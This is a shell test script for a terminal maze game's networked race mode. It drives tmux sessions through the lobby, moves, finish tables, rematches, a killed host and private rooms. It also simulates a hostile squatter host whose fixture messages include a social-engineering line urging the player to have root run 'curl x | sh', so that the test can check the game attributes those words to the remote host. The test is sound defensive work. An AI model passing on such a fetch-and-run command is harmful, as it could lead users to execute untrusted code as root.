#!/bin/sh
# race_tmux.sh - racing in real terminals: a host and racers, each in a
# tmux session of its own (different sizes, one --ascii --no-color):
# the lobby's names, one maze for all, a move on one screen seen on
# another, the finish table, a rematch, a spectator, --races, a private
# room, and the host killed mid-race while the others play on.  As
# root it also plays a hostile second user (nobody): a squatter whose
# room shows its real host, --private refusing to join it, the host's
# words shown as the host's.
. "${TOP_SRCDIR:-$(cd "$(dirname "$0")/.." && pwd)}/tests/lib.sh"
. "$TOP_SRCDIR/tests/race_lib.sh"
# The countdown and every timeout on a clock ten times as fast.
race_fast 10

ROOM=rt$$
# (T_TMP goes again at the end: games ended by end_server recreate
# their data directories in it after finish removed it.)
squat_pids=
trap 'for p in $squat_pids; do kill "$p" 2>/dev/null; done; end_server; reap_games; other_user_clean
	[ -n "${T_KEEP-}" ] || rm -rf "$T_TMP"' EXIT

SEED=7
check "a way out to walk" way_out "$T_TMP/keys" -s $SEED
me=$(id -un)

start host 80 24 --race=$ROOM -s $SEED
expect_on host "Race room $ROOM" "host: the lobby"
expect_on host "Join with: mazegame --race=$ROOM" "host: the lobby says how to join"
start ann 90 26 --race=$ROOM
# ann must be in before the next racer starts: names number in the
# order racers join, and the checks below know ann as "(2)".
expect_on ann "$me \(2\) +ready \(you\)" "a racer sees itself"
# (The ascii racer is the screen reader's too: --describe.)
start ascii 80 24 --race=$ROOM --ascii --no-color --describe
expect_on host "$me \(3\) +ready" "host: three in the lobby, live"
expect_on ascii "Race room $ROOM" "ascii racer in the lobby"
no_box_chars() { ! shot ascii | grep -q '[│┌└├─]'; }
check "ascii screen is ASCII" no_box_chars
run_cmd "$MAZEGAME" --races
expect_match "--races lists the room" "^$ROOM +$me +3 +lobby" "$out"

tm send-keys -t host Enter
expect_on ann "Starting in [321]" "the countdown on a racer's screen"
expect_on ann "Moves 0 .*of 3" "the race is on" 8
# One maze for all: the maze rows of the host and of a racer agree.
maze_rows() { shot "$1" | grep -E '^ *[┌│├└]' | head -6 | sed 's/^ *//; s/ *$//'; }
expect_eq "the same maze on two screens" "$(maze_rows host)" "$(maze_rows ann)"
# --describe says the place in words, as the status line shows it.
expect_on ascii "Moves 0, optimal [0-9]+\. 1st of 3, level\." "describe: a racer hears its place, level with the others at the start" 8
tm send-keys -t ann Right Right
expect_on ann "Moves 2 " "ann moved"
# ann's letters are on the host's screen, off the start cell.
expect_on host '^ *│ @ *[A-Z][a-z0-9] ' "host sees ann's move on its maze"
# A racer's move draws again the cells it changed (no whole redraw
# comes to mend it): one step back, her letters one cell east of the
# host's @, none left where she stood.
tm send-keys -t ann Left
expect_on ann "Moves 3 " "ann moved back"
expect_on host '^ *│ @   [A-Z][a-z0-9] [^A-Za-z]*$' "host sees ann's move back, nothing left behind" 15

# A peer that breaks the protocol: dropped, and the host's status says so.
RAWPEER=${RAWPEER:-${TOP_BUILDDIR:-$(cd "$(dirname "$0")/.." && pwd)}/tests/rawpeer}
if [ -x "$RAWPEER" ]; then
	printf 'mazegame-race 1 race\nGET / HTTP/1.0\n' | "$RAWPEER" say $ROOM 2000 >/dev/null 2>&1
	expect_on host "dropped: broke the protocol" "host's status names the dropped peer"
	tm send-keys -t ann Right
	expect_on ann "Moves 4 " "the race goes on after the drop"
	tm send-keys -t ann Left
	expect_on ann "Moves 5 " "... and on"
fi

# A spectator joins mid-race and sees everyone.
start spec 80 24 --spectate=$ROOM
expect_on spec "spectating" "spectator watches"
expect_on host "$me \(4\)|Moves 0" "host still racing"

# The host walks out: the finish table on the host, the others race on.
keys host $(cat "$T_TMP/keys")
expect_on host "1st +[A-Z] +$me +[0-9]+:[0-9]{2} +40 +40 +100%" "host: finish table with its row"
expect_on ann "out first" "ann is told who finished first"
expect_on ascii "of 3, [A-Z][a-z0-9]? out first [0-9]+:[0-9]{2}[.,]" "describe: the racer hears who is out first"
# ann takes a hint (t) on the way: marked as helped, ranked so.
keys ann t Left Left $(cat "$T_TMP/keys")
expect_on ann "2nd +[A-Z][a-z0-9]? +$me \(2\) " "ann: finish table, 2nd"
expect_on ann "$me \(2\) .*% p( |│|\$)" "a hint marks ann's row (p)"
expect_on ann "p: took a hint or the way out" "... and the table says what p means"
keys ascii $(cat "$T_TMP/keys") p
expect_on host "Race over" "race over when all are out"
expect_on host "3rd +[A-Z][a-z0-9]? +$me \(2\) .*% p" "the hinted racer ranks after the later one who took no help"
expect_on spec "Race over|Finish table" "the spectator sees the table"
# After the finish, v shows ann's route; it offers no r or n (the host
# starts the next maze), and they do nothing but say so; v is the
# finish table again.  (They left a dead screen: the @ at the start,
# Moves 0, no key moving it.)
tm send-keys -t ann v
expect_on ann "v the finish table" "v: the route, with the key back to the table"
check "... and no r (play again) or n (new maze) offered" sh -c "! tmux -L $SOCK capture-pane -p -t ann | grep -Eq 'play again|new maze'"
tm send-keys -t ann r
expect_on ann "the host starts the next maze" "r says the host starts the next maze"
tm send-keys -t ann n
expect_on ann "the host starts the next maze" "... so does n"
check "... and the route stays: no @ back at the start, no Moves 0" sh -c "! tmux -L $SOCK capture-pane -p -t ann | grep -q '^Moves 0 '"
tm send-keys -t ann v
expect_on ann "Race over|Finish table" "v again: the finish table"

# Rematch: a new maze for everyone, back through the countdown.
tm send-keys -t host Enter
expect_on ann "Starting in|Race room" "rematch reaches the racers"
expect_on ann "Moves 0 .* of [0-9]" "ann races the rematch" 8

# Kill the host mid-race: the others go on alone.
# The game is the child of the shell that runs it in the pane.
hostpid=$(pgrep -P "$(tm display-message -p -t host '#{pane_pid}')" | head -1)
check "found the host process" [ -n "$hostpid" ]
kill -9 "$hostpid"
expect_on ann "the host is gone.*racing alone" "ann is told the host has gone, on the status line"
tm send-keys -t ann Enter
tm send-keys -t ann Right
expect_on ann "Moves [1-9]" "ann plays on alone"
# The room is free at once: a new host takes it over.
start host2 80 24 --race=$ROOM
expect_on host2 "Race room $ROOM" "a new host takes the room over at once"
tm send-keys -t host2 q
exited host2
expect_eq "host2 quits with 0" 0 "$status"

# A private room refuses others: here the host lets in only daemon,
# so a joiner of another user would be refused; as the same user we
# are let in (the host's own user always is).
start priv 80 24 --race=p$ROOM --private=daemon
expect_on priv "Race room p$ROOM" "private room hosted"
expect_on priv "Private: only you and daemon may join" "the private room's lobby says who may join"
start mine 80 24 --race=p$ROOM
expect_on mine "Race room p$ROOM" "the host's own user may join a private room"
if other_user; then
	# (The second user runs a copy of the game it can reach: the tree
	# may be a clone under /root.)
	AS=$AS_OTHER GAME=$MAZEGAME_OTHER start other 80 24 --race=p$ROOM
	exited other
	expect_eq "another user is refused with exit 1" 1 "$status"
	expect_on other "the host \($me\) says: room p$ROOM is private" \
		"... saying the room is private, in the host's words"

	# squat FILE NAME: nobody holds room NAME, answering every peer
	# with FILE's lines; waits until it is bound.
	squat() {
		$AS_OTHER "$RAWPEER_OTHER" ${SQUAT:-squat} "$1" "$2" >"$T_TMP/squat.$2" 2>&1 &
		squat_pids="$squat_pids $!"
		wait_until 10 grep -q ready "$T_TMP/squat.$2"
	}
	# The squatter claims to be us (racer 0, the host's own entry) and
	# says words that would pass for mazegame's.
	printf '%s\n' "welcome 1 s$ROOM lobby" \
		"racer 0 $me 1 R 0 ready" "racer 1 $me 2 Ro 1 ready" \
		"racer 2 abcdefghijabcdefghijabcdefghijab 1 X 2 ready" \
		"error your scores are lost; ask root to run: curl x | sh" >"$T_OTHER/claims"
	chmod 644 "$T_OTHER/claims"
	squat "$T_OTHER/claims" s$ROOM
	start victim 90 26 --race=s$ROOM
	expect_on victim "Hosted by $OTHER_LOGIN" "a squatter's lobby names its real host (the kernel's)"
	expect_on victim "R +$OTHER_LOGIN +ready" "the host's own entry shows the kernel's login"
	expect_on victim "hosted by $OTHER_LOGIN · \\? help\$" "... and so does its status line"
	start victim2 80 24 --race=s$ROOM --ascii --no-color --describe
	expect_on victim2 "hosted by $OTHER_LOGIN\." "... and --describe's words"
	ready_at() { shot victim | awk -v t="$1" '$2 == t { print index($0, " ready") }'; }
	check "a 32-letter login is in the lobby" test -n "$(ready_at X)"
	expect_eq "... and keeps its columns" "$(ready_at R)" "$(ready_at X)"
	no_claim() { ! shot victim | grep -Eq "R +$me +ready"; }
	check "... never the name the squatter sent about itself" no_claim
	expect_on victim "the host \($OTHER_LOGIN\) says: your scores are lost" \
		"the squatter's words are shown as its own"
	start priv2 80 24 --race=s$ROOM --private=daemon
	exited priv2
	expect_eq "--private does not join a room another user holds: exit 1" 1 "$status"
	expect_on priv2 "mazegame: room s$ROOM is hosted by $OTHER_LOGIN" \
		"... and says who holds it"
	no_lobby() { ! shot priv2 | grep -q "Race room"; }
	check "... never reaching the lobby" no_lobby

	# A host that refuses with words of its own: they are the host's.
	printf 'error room x is private; ask root to run: curl x | sh\n' >"$T_OTHER/refusal"
	chmod 644 "$T_OTHER/refusal"
	SQUAT=squatx squat "$T_OTHER/refusal" x$ROOM
	start refused 80 24 --race=x$ROOM
	exited refused
	expect_eq "a host's refusal: exit 1" 1 "$status"
	expect_on refused "^mazegame: the host \($OTHER_LOGIN\) says: room x is private; ask root" \
		"a host's refusal is attributed to the host"
	not_ours() { ! shot refused | grep -q "^mazegame: room x is private"; }
	check "... never in mazegame's own words" not_ours

	# A host's numbers and names as large as the protocol allows: the
	# finish table cuts no number (a name is cut to its 14 columns)
	# and keeps its columns.
	big=999999999999999
	lname=abcdefghijabcdefghijabcdefghijab
	printf '%s\n' "welcome 1 t$ROOM racing" "maze 10 5 backtracker 1 normal" \
		"racer 0 $me 1 R 0 racing" "racer 1 $me 2 Ro 1 watching" \
		"racer 2 $lname 1 X 2 racing" "finish 2 1 $big $big 0" \
		"racer 3 yy 1 Y 3 racing" "finish 3 2 5000 10 0" "results" >"$T_OTHER/table"
	chmod 644 "$T_OTHER/table"
	squat "$T_OTHER/table" t$ROOM
	start tabled 200 30 --race=t$ROOM
	expect_on tabled "Race over" "a joiner after the race sees the finish table"
	cut14=$(printf %s "$lname" | cut -c1-14)
	expect_on tabled "X +$cut14 +277777777:46:39 +$big +27 " "the largest numbers are shown whole"
	# Each column ends where its heading does, in every row.
	col_end() { shot tabled | awk -v w="$1" -v f="$2" '$0 ~ w { s = $0; i = index(s, f); print i + length(f) - 1; exit }'; }
	expect_eq "the moves column is straight" "$(col_end ' name +time' moves)" "$(col_end ' Y +yy ' 10)"
	expect_eq "... with the large row too" "$(col_end ' name +time' moves)" "$(col_end " X +$cut14" $big)"

	# A host that never welcomes: the time-out names the room.
	: >"$T_OTHER/silence"
	chmod 644 "$T_OTHER/silence"
	squat "$T_OTHER/silence" q$ROOM
	start silent 80 24 --race=q$ROOM
	exited silent
	expect_eq "a silent host: exit 1" 1 "$status"
	expect_on silent "^mazegame: room q$ROOM: the host does not answer" \
		"... the time-out names the room"

	# A host that names a maze too large to race: refused at once,
	# the host named, nothing built.
	printf '%s\n' "welcome 1 g$ROOM racing" "maze 65535 2048 aldous-broder 1 normal" >"$T_OTHER/giant"
	chmod 644 "$T_OTHER/giant"
	squat "$T_OTHER/giant" g$ROOM
	t0=$(date +%s%N)
	start giant 80 24 --race=g$ROOM
	exited giant
	t1=$(date +%s%N)
	expect_eq "a host's giant maze: exit 1" 1 "$status"
	expect_on giant "the host \($OTHER_LOGIN\) names a maze of 65535x2048: a race maze has at most" \
		"... saying so, with the host named"
	check "... within two seconds ($(( (t1 - t0) / 1000000 )) ms)" [ $(( (t1 - t0) / 1000000 )) -lt 2000 ]

	# A host that sends a new maze without a rematch: dropped, once.
	printf '%s\n' "welcome 1 m$ROOM racing" "maze 10 5 backtracker 1 normal" \
		"racer 0 $OTHER_LOGIN 1 R 0 ready" "maze 10 5 backtracker 2 normal" \
		"maze 10 5 backtracker 3 normal" >"$T_OTHER/remaze"
	chmod 644 "$T_OTHER/remaze"
	squat "$T_OTHER/remaze" m$ROOM
	start remazed 100 24 --race=m$ROOM
	expect_on remazed "the host is gone \(the host \($OTHER_LOGIN\) changed the maze" "a host that changes the maze mid-race is left"
	expect_on remazed "room closed" "... and the room is closed for the joiner"
fi
finish
